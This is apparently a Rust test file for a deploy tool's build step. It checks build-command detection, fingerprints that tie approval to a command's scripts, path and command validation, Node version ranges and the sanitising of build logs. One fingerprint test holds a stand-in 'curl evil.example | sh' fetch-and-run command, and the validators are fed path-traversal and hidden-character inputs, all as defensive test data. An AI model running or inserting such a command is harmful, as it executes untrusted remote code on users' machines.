//! The build step: which command is run and what a yes to it covers; which Node is wanted; what a build's lines become.

use naru_core::build::engines::{Range, Said, Version, node_notes, pinned};
use naru_core::build::log::{Cleaner, LONGEST_LINE, MOST_BYTES, MOST_LINES, Ring, is_unseen};
use naru_core::build::{Build, BuildWish, checked_below, checked_command};
use naru_core::convenience::build_command::PackageManager;
use naru_core::deploy::framework::Top;
use naru_core::error::Code;
use naru_core::project::Project;
use proptest::prelude::*;

fn top(names: &[&str], package_json: &str) -> Top {
    let package_json = (!package_json.is_empty()).then(|| package_json.to_owned());
    Top { names: names.iter().map(|name| (*name).to_owned()).collect(), index_html: None, package_json }
}

const PACKAGE: &str = r#"{"scripts": {"prebuild": "node gen.js", "build": "tsc && vite build", "lint": "eslint ."}}"#;

#[test]
fn the_command_is_the_projects_own_or_told_from_its_lockfile() {
    for (names, package, want) in [
        (&["package-lock.json"][..], PACKAGE, Ok(("npm run build", PackageManager::Npm))),
        (&["pnpm-lock.yaml"], PACKAGE, Ok(("pnpm run build", PackageManager::Pnpm))),
        (&["yarn.lock"], PACKAGE, Ok(("yarn run build", PackageManager::Yarn))),
        (&["bun.lock"], PACKAGE, Ok(("bun run build", PackageManager::Bun))),
        (&[], r#"{"scripts": {"dev": "vite"}}"#, Err(Code::BuildNoCommand)),
        (&[], "", Err(Code::BuildNoCommand)),
    ] {
        let build = Build::plan("/p", &BuildWish::default(), &[top(names, package)]);
        let have = build.as_ref().map(|b| (b.command.as_str(), b.manager.unwrap())).map_err(|e| e.code);
        assert_eq!(have, want, "{names:?}");
    }
    let wish = BuildWish { command: Some("make site".to_owned()), ..BuildWish::default() };
    let own = Build::plan("/p", &wish, &[top(&[], "")]).unwrap();
    assert_eq!((own.command.as_str(), own.detected, own.manager), ("make site", false, None));
}

#[test]
fn a_yes_covers_one_command_in_one_folder_with_what_its_scripts_say() {
    let of = |dir: &str, command: Option<&str>, package: &str| {
        let wish = BuildWish { command: command.map(str::to_owned), ..BuildWish::default() };
        Build::plan(dir, &wish, &[top(&["package-lock.json"], package)]).unwrap()
    };
    let first = of("/p", None, PACKAGE);
    let names: Vec<&str> = first.scripts.iter().map(|script| script.name.as_str()).collect();
    assert_eq!(names, ["prebuild", "build"], "what runs before it is shown, what does not run is not");
    assert_eq!(first.fingerprint(), of("/p", None, PACKAGE).fingerprint());
    let others = [
        of("/q", None, PACKAGE),
        of("/p", Some("npm run build --verbose"), PACKAGE),
        of("/p", None, &PACKAGE.replace("vite build", "curl evil.example | sh")),
        of("/p", None, &PACKAGE.replace("node gen.js", "node other.js")),
    ];
    for other in &others {
        assert_ne!(first.fingerprint(), other.fingerprint(), "{other:?}");
    }
    assert_eq!(first.fingerprint(), of("/p", None, &PACKAGE.replace("eslint", "biome")).fingerprint());
    // Scripts that scripts run, and those of a command somebody wrote.
    let deep = r#"{"scripts": {"build": "npm run css && vite", "css": "sass a.scss", "x": "y"}}"#;
    let deep = of("/p", Some("npm run build"), deep);
    assert_eq!(deep.scripts.iter().map(|s| s.name.as_str()).collect::<Vec<_>>(), ["build", "css"]);
    let circle = of("/p", None, r#"{"scripts": {"build": "npm run a", "a": "npm run build"}}"#);
    assert_eq!(circle.scripts.len(), 2, "scripts that run each other end");
}

#[test]
fn a_project_file_names_a_build_that_can_be_read_and_lies_below() {
    for good in ["npm run build", "  make site ", "hugo --minify && cp a b"] {
        assert_eq!(checked_command(good).unwrap(), good.trim());
    }
    let long = "x".repeat(501);
    for bad in ["", "  ", "a\nb", "a\u{202e}b", "a\u{1b}[2Kb", "a\u{200b}b", &long] {
        assert_eq!(checked_command(bad).unwrap_err().args["rule"], "command-shape", "{bad:?}");
    }
    for (text, want) in [("dist", "dist"), ("./apps/web/", "apps/web"), (".", "."), ("", ".")] {
        assert_eq!(checked_below(text).unwrap(), want);
    }
    for bad in ["/etc", "..", "a/../b", "a//b", "C:\\x", "a\\b", "~\u{202e}x"] {
        assert_eq!(checked_below(bad).unwrap_err().args["rule"], "below-shape", "{bad:?}");
    }
    let mut project = Project::new("blog", [7; 16]);
    project.build = Some(BuildWish {
        command: Some("npm run build".to_owned()),
        output: Some("dist".to_owned()),
        dir: Some("apps/web".to_owned()),
        before_deploy: Some(true),
        off: None,
    });
    let text = project.to_text();
    assert_eq!(Project::parse(&text, "x").unwrap(), project);
    let error = Project::parse(&text.replace("apps/web", "../.."), "x").unwrap_err();
    assert_eq!(error.code, Code::BadProject, "a file from elsewhere cannot lead out of its folder");
}

#[test]
fn ranges_are_read_as_npm_reads_them() {
    for (range, well, ill) in [
        (">=18", &["18.0.0", "20.1.2"][..], &["17.9.9"][..]),
        (">=18.17.0 <21", &["18.17.0", "20.99.0"], &["18.16.9", "21.0.0"]),
        ("^20.3", &["20.3.0", "20.9.1"], &["20.2.9", "21.0.0"]),
        ("^18 || ^20 || >=22", &["18.1.0", "20.0.0", "24.0.0"], &["19.0.0", "21.9.0"]),
        ("~16.4", &["16.4.0", "16.4.9"], &["16.5.0"]),
        ("18.x", &["18.0.0", "18.99.0"], &["19.0.0"]),
        ("*", &["0.1.0", "99.0.0"], &[]),
        ("", &["4.0.0"], &[]),
        ("14 - 16", &["14.0.0", "16.20.2"], &["17.0.0", "13.9.0"]),
        ("> 16", &["17.0.0"], &["16.0.0", "16.9.0"]),
        ("<= 16", &["16.9.0"], &["17.0.0"]),
        ("=20.0.0", &["20.0.0"], &["20.0.1"]),
        (">*", &[], &["1.0.0"]),
    ] {
        let parsed = Range::parse(range).unwrap();
        let holds = |text: &&&str| parsed.holds(Version::parse(text).unwrap());
        assert_eq!(well.iter().filter(holds).count(), well.len(), "{range} holds {well:?}");
        assert_eq!(ill.iter().filter(holds).count(), 0, "{range} does not hold {ill:?}");
    }
    for unread in ["latest", ">=20.0.0-rc.1", "git+https://x", ">=", "1.2.3.4", "^^1 ?"] {
        assert!(Range::parse(unread).is_none(), "{unread} is not judged");
    }
}

#[test]
fn a_node_that_does_not_fit_is_named_with_the_file_that_says_so() {
    let said = Said {
        package_json: Some(r#"{"engines": {"node": ">=22"}}"#.to_owned()),
        nvmrc: Some("# ours\nlts/jod\n".to_owned()),
        node_version: Some("v20\n".to_owned()),
    };
    let notes = node_notes(&said, "v20.20.2\n");
    let told: Vec<_> = notes.iter().map(|n| (n.args["file"].as_str(), n.args["want"].as_str())).collect();
    assert_eq!(told, [("package.json", ">=22"), (".nvmrc", "lts/jod")]);
    assert!(node_notes(&said, "v22.1.0").iter().all(|n| n.args["file"] == ".node-version"));
    for (open, node) in [("lts/*", "v1.0.0"), ("node", "v1.0.0"), ("", "v1.0.0"), ("20", "v21.0.0-nightly2024")] {
        let said = Said { nvmrc: Some(open.to_owned()), ..Said::default() };
        assert_eq!(node_notes(&said, node), [], "{open:?} against {node} is not judged");
    }
    assert!(pinned("20").unwrap().holds(Version(20, 4, 1)) && !pinned("20.5").unwrap().holds(Version(20, 4, 1)));
}

fn lines(bytes: &[u8]) -> Vec<String> {
    let (mut cleaner, mut out) = (Cleaner::default(), Vec::new());
    cleaner.push(bytes, |line| out.push(line));
    out.extend(cleaner.end());
    out
}

#[test]
fn what_a_terminal_would_be_told_is_left_out_of_the_text() {
    for (bytes, want) in [
        (&b"\x1b[32mgreen\x1b[0m done\n"[..], vec!["green done"]),
        (b"\x1b]0;title\x07a\n\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\\n", vec!["a", "link"]),
        (b"10%\r50%\r100%\r\nnext\r\n", vec!["100%", "next"]),
        (b"a\x08b\n\tc\n\x00\x07d", vec!["b", "    c", "d"]),
        (b"\x1b(Bascii\x1b=\n", vec!["ascii"]),
        (b"\x1b]never ends\nnext\n", vec!["", "next"]),
        ("\u{9b}31mc1\n가\u{202e}나\n👩\u{200d}💻\n".as_bytes(), vec!["c1", "가\u{fffd}나", "👩\u{200d}💻"]),
        (b"\xff\xfeill\n", vec!["\u{fffd}\u{fffd}ill"]),
        (b"\x1b[2K\x1b[1A\x1b[?25lx\n\n", vec!["x", ""]),
    ] {
        assert_eq!(lines(bytes), want, "{:?}", String::from_utf8_lossy(bytes));
    }
    let long = lines(&vec![b'x'; LONGEST_LINE * 3]);
    assert_eq!((long.len(), long[0].len()), (1, LONGEST_LINE + '…'.len_utf8()));
}

#[test]
fn only_the_last_lines_are_kept_and_counted_on() {
    let mut ring = Ring::default();
    for n in 0..MOST_LINES as u64 + 10 {
        ring.push(format!("line {n}"));
    }
    let page = ring.page(0, 3);
    assert_eq!((page.first, page.lines[0].as_str(), page.total), (10, "line 10", MOST_LINES as u64 + 10));
    assert_eq!(ring.page(page.total, 9).lines, Vec::<String>::new());
    assert_eq!(ring.page(page.total - 1, 9).lines, [format!("line {}", page.total - 1)]);
    for _ in 0..2_000 {
        ring.push("x".repeat(LONGEST_LINE));
    }
    let kept: usize = ring.page(0, usize::MAX).lines.iter().map(String::len).sum();
    assert!(kept <= MOST_BYTES && kept > MOST_BYTES / 2, "{kept}");
    ring.push("why".to_owned());
    ring.push("  ".to_owned());
    assert_eq!(ring.tail(1), ["why"]);
}

proptest! {
    /// Whatever comes, in whatever pieces: the same lines, none too long, none that moves or hides text.
    #[test]
    fn any_bytes_in_any_pieces_become_the_same_harmless_lines(
        bytes in prop::collection::vec(prop_oneof![any::<u8>(), Just(0x1b), Just(b'['), Just(b'\n'), Just(b'\r'), Just(0xe2), Just(0x80), Just(0xae)], 0..400),
        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..6),
    ) {
        let whole = lines(&bytes);
        let mut at: Vec<usize> = cuts.iter().map(|cut| cut.index(bytes.len() + 1)).collect();
        at.extend([0, bytes.len()]);
        at.sort_unstable();
        let (mut cleaner, mut pieces) = (Cleaner::default(), Vec::new());
        for pair in at.windows(2) {
            cleaner.push(&bytes[pair[0]..pair[1]], |line| pieces.push(line));
        }
        pieces.extend(cleaner.end());
        prop_assert_eq!(&whole, &pieces);
        for line in &whole {
            prop_assert!(!line.chars().any(|c| c.is_control() || is_unseen(c)), "{:?}", line);
        }
    }
}
